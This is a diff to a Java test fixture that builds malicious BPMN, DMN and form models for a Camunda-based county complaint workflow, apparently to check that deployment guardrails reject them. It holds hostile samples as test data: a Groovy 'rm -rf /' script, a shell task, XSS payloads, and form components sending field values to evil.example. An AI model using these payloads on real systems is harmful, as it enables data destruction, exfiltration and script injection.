@@ -18,8 +18,17 @@ final class MaliciousModels {
 	/**
 	 * @param rule the violation expected; {@code null} when the refusal happens before the guardrails
 	 *        (wrong tenant: 403, too large a request: 413)
+	 * @param shared whether the rule holds for the county's shared deployments too, not only for variants
 	 */
-	record Case(String name, Map<String, byte[]> files, String rule) {
+	record Case(String name, Map<String, byte[]> files, String rule, boolean shared) {
+
+		Case(String name, Map<String, byte[]> files, String rule) {
+			this(name, files, rule, false);
+		}
+
+		Case alsoShared() {
+			return new Case(name, files, rule, true);
+		}
 
 		@Override
 		public String toString() {
@@ -31,6 +40,15 @@ final class MaliciousModels {
 	private MaliciousModels() {
 	}
 
+	private static final String SIGN_FOR_PROPERTIES = """
+			<camunda:properties>
+			          <camunda:property name="civicloop.stage" value="sign-for" />
+			        </camunda:properties>""".strip();
+
+	private static final String CLOSE = "<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" camunda:delegateExpression=\"${closeMatterDelegate}\">";
+
+	private static final String ON_SITE = "<bpmn:userTask id=\"task_onSiteVerification\" name=\"现场核实\" camunda:candidateGroups=\"unit-shangtang\" />";
+
 	static List<Case> all() {
 		String p = process();
 		var cases = new ArrayList<Case>();
@@ -39,10 +57,9 @@ final class MaliciousModels {
 				"<bpmn:scriptTask id=\"task_closeMatter\" name=\"办结归档\" scriptFormat=\"groovy\"><bpmn:script>'rm -rf /'.execute()</bpmn:script>")
 			.replace("    </bpmn:serviceTask>\n    <bpmn:endEvent id=\"endEvent_matterClosed\"", "    </bpmn:scriptTask>\n    <bpmn:endEvent id=\"endEvent_matterClosed\""),
 				"script"));
-		cases.add(bpmn("a Groovy execution listener", replace(p, "<camunda:taskListener delegateExpression=\"${recordSignerDelegate}\" event=\"complete\" />",
-				"<camunda:taskListener delegateExpression=\"${recordSignerDelegate}\" event=\"complete\" />"
-						+ "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">System.exit(0)</camunda:script></camunda:executionListener>"),
-				"script"));
+		cases.add(bpmn("a Groovy execution listener", replace(p, SIGN_FOR_PROPERTIES, SIGN_FOR_PROPERTIES
+				+ "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">System.exit(0)</camunda:script></camunda:executionListener>"),
+				"script").alsoShared());
 		cases.add(bpmn("camunda:class on a service task", replace(p, "camunda:delegateExpression=\"${closeMatterDelegate}\"",
 				"camunda:class=\"org.civicloop.matter.CloseMatterDelegate\""), "java-class"));
 		cases.add(bpmn("a delegate bean outside the allow-list", replace(p, "camunda:delegateExpression=\"${closeMatterDelegate}\"",
@@ -132,7 +149,157 @@ final class MaliciousModels {
 				"""), "doctype"));
 		cases.add(new Case("50,000 elements", files(PROCESS, fiftyThousandElements()), "element-count"));
 		cases.add(new Case("a 5 MB model", files(PROCESS, p + "<!--" + "x".repeat(5 * 1024 * 1024) + "-->"), null));
+		cases.addAll(builtInBehaviours(p));
+		cases.addAll(formComponents());
+		cases.addAll(whoDoesTheWork(p));
 		return cases;
+	}
+
+	/** The engine's other ways to run code: built-in task types, field injection, the legacy namespaces, listeners. */
+	private static List<Case> builtInBehaviours(String p) {
+		var cases = new ArrayList<Case>();
+		cases.add(bpmn("a shell task with an injected command", replace(p, CLOSE, "<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" camunda:type=\"shell\">"
+				+ "<bpmn:extensionElements><camunda:field name=\"command\"><camunda:string>touch</camunda:string></camunda:field>"
+				+ "<camunda:field name=\"arg1\"><camunda:string>/tmp/owned</camunda:string></camunda:field></bpmn:extensionElements>"),
+				"java-class").alsoShared());
+		cases.add(bpmn("a mail task", replace(p, CLOSE, "<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" camunda:type=\"mail\">"
+				+ "<bpmn:extensionElements><camunda:field name=\"to\" stringValue=\"x@example.com\" /></bpmn:extensionElements>"),
+				"java-class").alsoShared());
+		cases.add(bpmn("field injection into an allow-listed delegate", replace(p, CLOSE, CLOSE
+				+ "<bpmn:extensionElements><camunda:field name=\"satisfaction\" stringValue=\"satisfied\" /></bpmn:extensionElements>"),
+				"java-class").alsoShared());
+		cases.add(bpmn("activiti:class in the legacy namespace", legacy(replace(p, CLOSE,
+				"<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" activiti:class=\"org.civicloop.Evil\">")), "namespace").alsoShared());
+		cases.add(bpmn("activiti:formKey in the legacy namespace", legacy(replace(p, "camunda:formRef=\"sign-for\" camunda:formRefBinding=\"deployment\"",
+				"activiti:formKey=\"embedded:app:evil.html\"")), "namespace").alsoShared());
+		cases.add(bpmn("a retry cycle in the fox namespace", replace(p, "xmlns:modeler=", "xmlns:fox=\"http://www.camunda.com/fox\" xmlns:modeler=")
+			.replace(CLOSE, CLOSE + "<bpmn:extensionElements><fox:failedJobRetryTimeCycle>R5/PT1S</fox:failedJobRetryTimeCycle></bpmn:extensionElements>"),
+				"namespace").alsoShared());
+		cases.add(bpmn("an allow-listed delegate as an execution listener", replace(p, SIGN_FOR_PROPERTIES, SIGN_FOR_PROPERTIES
+				+ "<camunda:executionListener event=\"start\" delegateExpression=\"${closeMatterDelegate}\" />"), "listener").alsoShared());
+		cases.add(bpmn("an allow-listed delegate as a task listener", replace(p, SIGN_FOR_PROPERTIES, SIGN_FOR_PROPERTIES
+				+ "<camunda:taskListener event=\"create\" delegateExpression=\"${startReworkDelegate}\" />"), "listener").alsoShared());
+		cases.add(bpmn("a human performer expression", replace(p, "<bpmn:incoming>flow_toSignFor</bpmn:incoming>",
+				"<bpmn:incoming>flow_toSignFor</bpmn:incoming><bpmn:humanPerformer><bpmn:resourceAssignmentExpression><bpmn:formalExpression>"
+						+ "housing.li</bpmn:formalExpression></bpmn:resourceAssignmentExpression></bpmn:humanPerformer>"), "performer").alsoShared());
+		cases.add(bpmn("an attribute the engine does not need", replace(p, CLOSE,
+				"<bpmn:serviceTask id=\"task_closeMatter\" name=\"办结归档\" camunda:delegateExpression=\"${closeMatterDelegate}\" camunda:whatever=\"x\">"),
+				"attribute").alsoShared());
+		cases.add(bpmn("a timer repeating every second", replace(p, "</bpmn:process>", """
+				<bpmn:boundaryEvent id="timer_storm" cancelActivity="false" attachedToRef="task_handle"><bpmn:timerEventDefinition>\
+				<bpmn:timeCycle xsi:type="bpmn:tFormalExpression">R/PT1S</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:boundaryEvent>
+				<bpmn:endEvent id="end_storm" /><bpmn:sequenceFlow id="flow_storm" sourceRef="timer_storm" targetRef="end_storm" /></bpmn:process>"""),
+				"timer-cycle").alsoShared());
+		cases.add(bpmn("a multi-instance of 100,000,000", replace(replace(p, "<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_review\">",
+				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_onSiteVerification\">"), "</bpmn:process>", """
+				<bpmn:userTask id="task_onSiteVerification" name="现场核实" camunda:candidateGroups="unit-shangtang">\
+				<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>100000000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:userTask>
+				<bpmn:sequenceFlow id="flow_verified" sourceRef="task_onSiteVerification" targetRef="task_review" /></bpmn:process>"""),
+				"multi-instance").alsoShared());
+		cases.add(bpmn("an output parameter copying the reporter's contact", replace(p,
+				"<camunda:inputParameter name=\"alertKind\">warning</camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>",
+				"<camunda:inputParameter name=\"alertKind\">warning</camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>"
+						+ "<camunda:outputParameter name=\"contact\">${reporterName} ${reporterPhone}</camunda:outputParameter>"),
+				"personal-data").alsoShared());
+		cases.add(dmn("a table reading the reporter's phone", replace(timeLimits(),
+				"<inputExpression id=\"inputExpression_urgency\" typeRef=\"string\"><text>urgency</text></inputExpression>",
+				"<inputExpression id=\"inputExpression_urgency\" typeRef=\"string\"><text>reporterPhone</text></inputExpression>"),
+				"personal-data").alsoShared());
+		return cases;
+	}
+
+	/** Forms are shown inside Tasklist's own page: nothing in them may load or run anything. */
+	private static List<Case> formComponents() {
+		var cases = new ArrayList<Case>();
+		cases.add(form("a form with an iframe allowed to run scripts and navigate the page",
+				"{\"type\":\"iframe\",\"id\":\"evil\",\"url\":\"https://evil.example/\",\"security\":{\"allowScripts\":true,\"allowTopNavigation\":true}}"));
+		cases.add(form("a form image whose source sends field values away",
+				"{\"type\":\"image\",\"id\":\"evil\",\"source\":\"=\\\"https://evil.example/?\\\" + returnNote\"}"));
+		cases.add(form("a form with raw HTML", "{\"type\":\"html\",\"id\":\"evil\",\"content\":\"<script>alert(1)</script>\"}"));
+		cases.add(form("a form text with a markdown image", "{\"type\":\"text\",\"id\":\"evil\",\"text\":\"![x](https://evil.example/t.png)\"}"));
+		cases.add(form("a form text with an HTML image", "{\"type\":\"text\",\"id\":\"evil\",\"text\":\"<img src=x onerror=alert(1)>\"}"));
+		return cases;
+	}
+
+	/** The stages in order are not enough: who does each of them, and where the application's steps stand. */
+	private static List<Case> whoDoesTheWork(String p) {
+		var cases = new ArrayList<Case>();
+		cases.add(bpmn("multi-instance with cardinality 0 and a pre-filled decision on sign-for", replace(replace(p, SIGN_FOR_PROPERTIES,
+				SIGN_FOR_PROPERTIES + "<camunda:inputOutput><camunda:outputParameter name=\"signForDecision\">sign</camunda:outputParameter></camunda:inputOutput>"),
+				"<bpmn:outgoing>flow_toSignForDecision</bpmn:outgoing>", "<bpmn:outgoing>flow_toSignForDecision</bpmn:outgoing>"
+						+ "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>0</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>"),
+				"stage-task"));
+		cases.add(bpmn("review offered to the village committee", replace(p,
+				"<bpmn:userTask id=\"task_review\" name=\"审核报结\" camunda:formRef=\"review\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"dispatch-centre\">",
+				"<bpmn:userTask id=\"task_review\" name=\"审核报结\" camunda:formRef=\"review\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"unit-shangtang\">"),
+				"stage-performer"));
+		cases.add(bpmn("the return visit offered to the village committee", replace(p,
+				"<bpmn:userTask id=\"task_returnVisit\" name=\"回访\" camunda:formRef=\"return-visit\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"dispatch-centre\">",
+				"<bpmn:userTask id=\"task_returnVisit\" name=\"回访\" camunda:formRef=\"return-visit\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"dispatch-centre,unit-shangtang\">"),
+				"stage-performer"));
+		cases.add(bpmn("sign-for given to a named cadre", replace(p, "camunda:candidateGroups=\"${leadDepartment}\" camunda:dueDate=\"${signForDue}\"",
+				"camunda:candidateGroups=\"${leadDepartment}\" camunda:candidateUsers=\"shangtang.yang\" camunda:dueDate=\"${signForDue}\""), "stage-performer"));
+		cases.add(bpmn("re-dispatch given to the village committee", replace(p,
+				"<bpmn:userTask id=\"task_redispatch\" name=\"改派\" camunda:formRef=\"redispatch\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"dispatch-centre\">",
+				"<bpmn:userTask id=\"task_redispatch\" name=\"改派\" camunda:formRef=\"redispatch\" camunda:formRefBinding=\"deployment\" camunda:candidateGroups=\"unit-shangtang\">"),
+				"stage-performer"));
+		cases.add(bpmn("an own step given to the intake systems", Models.withOnSiteVerification(p, "intake-systems"), "performer"));
+		cases.add(bpmn("an own step given to another town's village", Models.withOnSiteVerification(p, "unit-hebin"), "performer"));
+		cases.add(bpmn("a step before registration", replace(replace(p,
+				"<bpmn:sequenceFlow id=\"flow_toRegister\" sourceRef=\"startEvent_matterReported\" targetRef=\"task_registerMatter\">",
+				"<bpmn:sequenceFlow id=\"flow_toRegister\" sourceRef=\"startEvent_matterReported\" targetRef=\"task_before\">"), "</bpmn:process>",
+				"<bpmn:manualTask id=\"task_before\" /><bpmn:sequenceFlow id=\"flow_afterBefore\" sourceRef=\"task_before\" targetRef=\"task_registerMatter\" /></bpmn:process>"),
+				"before-registration"));
+		cases.add(bpmn("a message start event", replace(p, "<bpmn:outgoing>flow_toRegister</bpmn:outgoing>",
+				"<bpmn:outgoing>flow_toRegister</bpmn:outgoing><bpmn:messageEventDefinition messageRef=\"Message_citizenEvaluation\" />"),
+				"before-registration"));
+		cases.add(bpmn("the matter closed on a warning branch", replace(p,
+				"<bpmn:serviceTask id=\"task_recordSignForWarning\" name=\"记录签收预警\" camunda:delegateExpression=\"${recordDeadlineAlertDelegate}\">",
+				"<bpmn:serviceTask id=\"task_recordSignForWarning\" name=\"记录签收预警\" camunda:delegateExpression=\"${closeMatterDelegate}\">"),
+				"stage-bypass"));
+		cases.add(bpmn("the matter closed and then handled again", replace(p,
+				"<bpmn:sequenceFlow id=\"flow_closed\" sourceRef=\"task_closeMatter\" targetRef=\"endEvent_matterClosed\">",
+				"<bpmn:sequenceFlow id=\"flow_closed\" sourceRef=\"task_closeMatter\" targetRef=\"gateway_mergeHandling\">"),
+				"delegate-place"));
+		cases.add(bpmn("a forged warning on the main flow", replace(replace(p,
+				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_review\">",
+				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_forged\">"), "</bpmn:process>", """
+				<bpmn:serviceTask id="task_forged" camunda:delegateExpression="${recordDeadlineAlertDelegate}"><bpmn:extensionElements><camunda:inputOutput>\
+				<camunda:inputParameter name="alertKind">urge</camunda:inputParameter><camunda:inputParameter name="alertStage">handle</camunda:inputParameter>\
+				</camunda:inputOutput></bpmn:extensionElements></bpmn:serviceTask>
+				<bpmn:sequenceFlow id="flow_afterForged" sourceRef="task_forged" targetRef="task_review" /></bpmn:process>"""),
+				"delegate-place"));
+		cases.add(bpmn("a warning recorded as an urge", replace(p,
+				"<camunda:inputParameter name=\"alertKind\">warning</camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>",
+				"<camunda:inputParameter name=\"alertKind\">urge</camunda:inputParameter>\n          <camunda:inputParameter name=\"alertStage\">sign-for</camunda:inputParameter>"),
+				"delegate-place"));
+		cases.add(bpmn("rework started before the return visit", replace(replace(p,
+				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_review\">",
+				"<bpmn:sequenceFlow id=\"flow_toReview\" sourceRef=\"gateway_joinHandling\" targetRef=\"task_earlyRework\">"), "</bpmn:process>",
+				"<bpmn:serviceTask id=\"task_earlyRework\" camunda:delegateExpression=\"${startReworkDelegate}\" />"
+						+ "<bpmn:sequenceFlow id=\"flow_afterEarlyRework\" sourceRef=\"task_earlyRework\" targetRef=\"task_review\" /></bpmn:process>"),
+				"stage-order"));
+		cases.add(bpmn("co-handling repeated over another collection", replace(p,
+				"<bpmn:multiInstanceLoopCharacteristics camunda:collection=\"${coDepartments}\" camunda:elementVariable=\"coDepartment\" />",
+				"<bpmn:multiInstanceLoopCharacteristics camunda:collection=\"${handlingReplies}\" camunda:elementVariable=\"coDepartment\" />"),
+				"multi-instance"));
+		cases.add(dmn("routing to a role group", routing().replace("&quot;dept-transport&quot;", "&quot;intake-systems&quot;"), "routing"));
+		cases.add(dmn("routing to the dispatch centre", routing().replace("&quot;dept-transport&quot;", "&quot;dispatch-centre&quot;"), "routing"));
+		return cases;
+	}
+
+	private static String legacy(String process) {
+		return replace(process, "xmlns:modeler=", "xmlns:activiti=\"http://activiti.org/bpmn\" xmlns:modeler=");
+	}
+
+	/** The county's model with its sign-for form carrying one more component. */
+	private static Case form(String name, String component) {
+		var files = new java.util.LinkedHashMap<>(files(PROCESS, process()));
+		files.putAll(forms());
+		String signFor = new String(files.get("sign-for.form"), java.nio.charset.StandardCharsets.UTF_8);
+		files.put("sign-for.form", replace(signFor, "\"components\": [", "\"components\": [" + component + ",")
+			.getBytes(java.nio.charset.StandardCharsets.UTF_8));
+		return new Case(name, files, "form-component", true);
 	}
 
 	private static Case bpmn(String name, String process, String rule) {
